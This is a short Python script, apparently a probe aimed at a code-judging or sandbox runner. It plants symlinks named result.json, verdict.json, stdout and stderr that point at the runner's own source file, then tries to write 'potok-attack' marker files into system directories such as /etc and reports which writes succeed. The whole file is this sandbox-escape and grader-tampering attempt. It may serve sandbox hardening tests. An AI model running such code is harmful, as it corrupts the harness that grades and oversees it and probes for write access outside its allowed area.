import os

for name in ("result.json", "verdict.json", "stdout", "stderr", "hs_err_pid1.log"):
    for folder in ("/work", "/tmp"):
        try:
            os.symlink("/rt/app/runner/__init__.py", f"{folder}/{name}")
        except OSError:
            continue
for place in ("/rt/app/potok-attack", "/potok-attack", "/etc/potok-attack"):
    try:
        with open(place, "w") as file:
            file.write("x")
        print("through: wrote", place, flush=True)
    except OSError as error:
        print("refused:", error, flush=True)
